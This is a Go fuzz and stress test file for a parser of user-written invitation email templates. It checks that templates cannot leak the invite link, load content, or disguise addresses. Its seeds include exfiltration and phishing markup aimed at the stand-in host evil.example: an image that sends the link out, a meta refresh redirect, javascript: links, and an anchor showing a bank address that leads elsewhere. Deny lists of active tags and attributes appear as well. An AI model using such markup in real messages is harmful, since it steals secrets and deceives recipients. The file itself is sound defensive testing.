// Copyright The Usher Authors
// SPDX-License-Identifier: Apache-2.0

package template_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/usher-dev/usher/internal/wording"
)

// pieces are the building blocks of pages, which the fuzzer combines.
var pieces = []string{
	`{{.Link}}`, `{{$.Link}}`, `{{if .Name}}`, `{{else}}`, `{{end}}`, `{{with .Link}}`, `{{.}}`, `{{or .Link "x"}}`, `{{.Name}}`,
	`<a href="`, ` href='`, ` href=`, `<img src="`, ` srcset="`, ` title="`, ` onclick="`, ` style="`, ` data-href="`, `<p`, `<meta content="0;url=`,
	`"`, `'`, `>`, ` `, `/`, `=`, `x`, `?`, "\n", `<!--`, `-->`, `<style>`, `</style>`, `<svg>`, `<noscript>`, `</noscript>`, `<plaintext>`,
	`<xmp>`, `<select><option>`, `<table><tr><td background="`, `<`, `</`, `>form`, `<![CDATA[`, `]]>`, `url(`, `)`, "`", `&#34;`, `{{/* x */}}`,
	`//evil.example/?u=`, `{{- .Link -}}`, `&nbsp;`, `<b>`, `</b>`, `<p>`, `</p>`, `<br>`, `<table>`, `<tr>`, `<td>`, `</table>`, `</body>`,
	`<a href="https://evil.example/">`, `<a href="{{.Link}}">`, `</a>`, `https://bank.example`, `bank.`, `example`, `<a href="javascript:x()">`,
	`<a href="https://bank.example">`, ` style="width:expression(x)"`, `<p style="margin:-9px 0">`, `<meta http-equiv="refresh" content="0;url=//evil.example">`,
	`<img src="//evil.example/1.gif">`, `<p style="background:url(//evil.example)">`, `<base href="//evil.example">`, "\u202e", `mailto:`, `#`,
	`bank`, `.`, `</a>.<a href="https://evil.example/">`, `<small>`, `</small>`, `<span style="display:inline-block">`, `</span>`, `&#x34f;`, `&#x200a;`,
}

// FuzzParseTemplates checks that no template makes ParseTemplates panic or run long. An accepted
// template shows the link, and has nothing that acts or loads. It gives the link only to the reader: the
// link is no part of any other address. And each anchor that shows an address leads there.
func FuzzParseTemplates(f *testing.F) {
	for _, seed := range []map[string]string{
		ownInvitation(),
		ownInvitation("invitation.txt", "{{if and .Name (or .Role (not .InvitedBy))}}a{{else if eq .Role `x` .Name}}b{{else}}c{{end}}{{$.Link}}"),
		ownInvitation("invitation.html", "<!-- c --><style>p{}</style><p {{if .Name}}class=a{{end}}>{{with .Message}}{{.}}{{end}}<A HREF = '{{.Link}}'>x</A>"),
		ownInvitation("invitation.html", `{{.Link}}<img src="https://evil.example/{{.Link}}"><fo{{if .Name}}rm{{end}} action=x>`),
		ownInvitation("invitation.html", `{{.Link}}<script>{{.Link}}</script><a onclick="{{.Link}}" style="{{.Link}}" title={{.Link}}>`),
		ownInvitation("invitation.html", `{{.Link}}<table background="x{{.Link}}"><textarea>{{.Link}}</textarea><![CDATA[{{.Link}}]]><?x {{.Link}}?>`),
		ownInvitation("invitation.html", `{{.Link}}{{if .Name}}<a href="{{else}}<img href="{{end}}{{.Link}}"><noscript><p title="</noscript><img src={{.Link}}>">`),
		ownInvitation("invitation.txt", "{{.Link}}\nhttps://evil.example/?u={{if .Name}}\n{{end}}{{with .Link}}{{.}}{{end}}"),
		ownInvitation("invitation.html", "{{.Link}}\nhttps://evil.example/?u=<b>{{.Link}}</b><table> <tr>{{.Link}}</table></div>{{$.Link}}"),
		ownInvitation("invitation.html", `{{.Link}} <a href="https://evil.example/">{{.Link}}</a><a href="javascript:x()">x</a><meta http-equiv=refresh content="0;url=//evil.example">`),
		ownInvitation("invitation.html", `{{.Link}} <a href="https://evil.example/" style="margin:-9px"><table><tr><td><a href="{{.Link}}">bank.<b>example</b></a><img src=//evil.example>`),
		ownInvitation("invitation.txt", `{{range 9999999999}}{{end}}{{define "x"}}{{template "x"}}{{end}}{{block "y" .}}{{end}}{{call .X}}{{printf "%d" 1 | len}}`),
	} {
		f.Add(seed["invitation.subject"], seed["invitation.txt"], seed["invitation.html"], []byte{0, 9, 3})
	}
	f.Fuzz(func(t *testing.T, subject, text, page string, more []byte) {
		for _, b := range more {
			page += pieces[int(b)%len(pieces)]
		}
		start := time.Now()
		templates, errs := parseOwn(map[string]string{
			"invitation.subject": subject, "invitation.txt": text, "invitation.html": page,
		})
		if took := time.Since(start); took > 5*time.Second {
			t.Errorf("took %s", took)
		}
		for _, e := range errs {
			if e.Reason == "" || strings.ContainsAny(e.Error(), "\n\r\x00") {
				t.Errorf("not a sentence: %q", e.Error())
			}
		}
		if len(errs) > 0 {
			return
		}
		bare := anInvitation()
		bare.InvitedBy, bare.Name, bare.Message = "", "", ""
		for _, d := range []wording.InvitationData{anInvitation(), bare} {
			showsTheLink(t, templates, d)
		}
	})
}

func showsTheLink(t *testing.T, templates wording.Templates, d wording.InvitationData) {
	t.Helper()
	c, err := templates.Invitation("de", d)
	if err != nil {
		t.Fatalf("an accepted template fails: %v", err)
	}
	if c.Subject == "" || !strings.Contains(c.Text, d.Link) || !strings.Contains(c.HTML, html.EscapeString(d.Link)) {
		t.Errorf("the subject or the link is missing: %+v", c)
	}
	if strings.Contains(c.Subject, d.Link) {
		t.Errorf("the subject shows the link: %q", c.Subject)
	}
	standsAlone(t, c.Text, d.Link)
	document, err := html.Parse(strings.NewReader(c.HTML))
	if err != nil {
		t.Fatal(err)
	}
	for n := range document.Descendants() {
		if n.Type == html.TextNode {
			standsAlone(t, n.Data, d.Link)
		}
	}
	leaks(t, c.HTML, d.Link)
	showsNoOtherAddress(t, document)
	for _, n := range elements(t, c.HTML) {
		actsOnNothing(t, n)
		if n.Data == "a" {
			leadsWhereItSays(t, n, d.Link)
		}
	}
	writes(t, c)
}

// actsOnNothing reports an element that does or loads something before a click.
func actsOnNothing(t *testing.T, n *html.Node) {
	t.Helper()
	if slices.Contains([]string{"img", "image", "style", "video", "audio", "input", "button", "title", "noscript"}, n.Data) || n.Namespace != "" {
		t.Errorf("the HTML has a <%s>", n.Data)
	}
	for _, a := range n.Attr {
		value := strings.ToLower(a.Val)
		switch {
		case a.Key == "style":
			if strings.ContainsAny(value, `\@/`) || strings.Contains(value, "url") || strings.Contains(value, "expression") || strings.Contains(value, ":-") && !strings.Contains(value, "font-family:-") {
				t.Errorf("a style loads, acts or moves: %q", a.Val)
			}
		case a.Key == "href":
			if scheme, _, _ := strings.Cut(value, ":"); n.Data != "a" || !slices.Contains([]string{"https", "http", "mailto"}, scheme) {
				t.Errorf("an address acts: %q", a.Val)
			}
		case strings.HasPrefix(a.Key, "on"), slices.Contains([]string{"src", "srcset", "background", "http-equiv", "ping", "action", "formaction", "cite", "poster"}, a.Key):
			t.Errorf("an attribute acts: %s=%q", a.Key, a.Val)
		}
	}
}

// leadsWhereItSays reports an anchor around the link, or around the address of the fuzzer, that leads
// elsewhere.
func leadsWhereItSays(t *testing.T, n *html.Node, link string) {
	t.Helper()
	var shown, href string
	for child := range n.Descendants() {
		if child.Type == html.TextNode {
			shown += child.Data
		}
	}
	for _, a := range n.Attr {
		if a.Key == "href" {
			href = a.Val
		}
	}
	for _, address := range []string{link, "https://bank.example", "bank.example"} {
		if href != "" && strings.Contains(shown, address) && !strings.Contains(href, address) {
			t.Errorf("an anchor shows %q and leads to %q", shown, href)
		}
	}
}

// showsNoOtherAddress reports an address of the fuzzer in a line, if a click on a part of it leads
// elsewhere.
func showsNoOtherAddress(t *testing.T, document *html.Node) {
	t.Helper()
	var line, leads strings.Builder // for each byte of the line, whether a click on it leads elsewhere
	for n := range document.Descendants() {
		mark := "."
		for outer := range n.Ancestors() {
			if outer.Data == "a" && slices.ContainsFunc(outer.Attr, func(a html.Attribute) bool { return strings.Contains(a.Val, "evil.example") }) {
				mark = "!"
			}
		}
		text := "\n"
		if n.Type == html.TextNode {
			text = strings.NewReplacer("\u034f", "", "\u200a", "").Replace(n.Data)
		} else if slices.Contains([]string{"a", "b", "small", "span"}, n.Data) {
			continue
		}
		line.WriteString(text)
		leads.WriteString(strings.Repeat(mark, len(text)))
	}
	for begin := 0; ; begin++ {
		at := strings.Index(line.String()[begin:], "bank.example")
		if at < 0 {
			return
		}
		begin += at
		if strings.Contains(leads.String()[begin:begin+len("bank.example")], "!") {
			t.Errorf("a line shows an address that leads elsewhere: %q", line.String())
		}
	}
}

// standsAlone checks the strings that a mail program could take for an address.
func standsAlone(t *testing.T, text, link string) {
	t.Helper()
	for _, word := range strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune(" \t\r\n", r) }) {
		if strings.Contains(word, link) && word != link {
			t.Errorf("the link is a part of %q", word)
		}
	}
}

// leaks reports elements that act, and attributes that carry the secret of the link elsewhere.
func leaks(t *testing.T, source, link string) {
	t.Helper()
	secret := link[strings.IndexByte(link, '#')+1:]
	for _, n := range elements(t, source) {
		if slices.Contains([]string{"script", "iframe", "object", "embed", "form", "base", "link", "svg", "math"}, n.Data) {
			t.Errorf("the HTML has a <%s>:\n%s", n.Data, source)
		}
		for _, a := range n.Attr {
			if strings.Contains(a.Key+a.Val, secret) && (a.Key != "href" || a.Val != link) {
				t.Errorf("the link is in %s=%q:\n%s", a.Key, a.Val, source)
			}
		}
	}
}

func TestHugeTemplatesAreReadAtOnce(t *testing.T) {
	t.Parallel()
	const size = 64 << 10
	filled := func(piece, end string) string {
		n := size / (len(piece) + len(end))
		return strings.Repeat(piece, n) + strings.Repeat(end, n)
	}
	for name, source := range map[string]string{
		"nested choices":          filled("{{if .Name}}", "{{end}}"),
		"nested withs":            filled("{{with .Name}}", "{{end}}"),
		"choices one by one":      filled("{{if .Name}}a{{else}}b{{end}}", ""),
		"a long chain of choices": "{{if .Name}}" + filled("{{else if .Role}}", "") + "{{end}}",
		"nested parentheses":      "{{if " + strings.Repeat("(", 9000) + ".Name" + strings.Repeat(")", 9000) + "}}{{end}}",
		"nested calls":            "{{if " + strings.Repeat("(not ", 9000) + ".Name" + strings.Repeat(")", 9000) + "}}{{end}}",
		"nested faults":           "{{if " + strings.Repeat("(eq ", 9000) + ".Name" + strings.Repeat(")", 9000) + "}}{{end}}",
		"unknown fields":          filled("{{.A}}", ""),
		"one long field":          "{{." + strings.Repeat("A", size-10) + "}}",
		"one long chain":          "{{." + strings.Repeat("A.", size/2-10) + "A}}",
		"many values":             filled("{{.Message}}", ""),
		"elements":                filled("<p>", "</p>"),
		"active elements":         filled("<form>", ""),
		"open brackets":           filled("<", ""),
		"open comments":           filled("<!--", ""),
		"closed comments":         filled("<!---->", ""),
		"document types":          filled("<!doctype ", ""),
		"titles":                  "<title>" + filled("<a", ""),
		"strings in a style":      "<style>" + filled(`""`, ""),
		"element names":           filled("<a", ""),
		"styles":                  "<p style='" + filled("color:red;", "") + "'>",
		"lengths":                 "<p style='margin:" + filled("1px ", "") + "x'>",
		"anchors":                 filled("<a href='https://a.example'>b.example ", ""),
		"anchors in tables":       strings.Repeat("<a href='https://a.example'><table><td>", 160) + filled("a.b ", "")[:50000],
		"anchors in one word":     filled("a<a href='https://a.example'>b</a>", ""),
		"anchors with a space":    filled("<a href='https://a.example'> </a>", ""),
		"quotes":                  "<p title='" + filled(`"<a href=`, "") + "'>",
		"definitions":             filled("{{define `x`}}", "{{end}}"),
		"line breaks":             filled("\n", "") + "{{.A}}",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, file := range []string{"invitation.subject", "invitation.txt", "invitation.html"} {
				start := time.Now()
				templates, _ := parseOwn(ownInvitation(file, source[:min(len(source), size-10)]+"\n{{.Link}}"))
				if _, err := templates.Invitation("en", anInvitation()); err != nil {
					t.Error(err)
				}
				if took := time.Since(start); took > 5*time.Second {
					t.Errorf("%s took %s", file, took)
				} else {
					t.Logf("%s took %s", file, took)
				}
			}
		})
	}
}
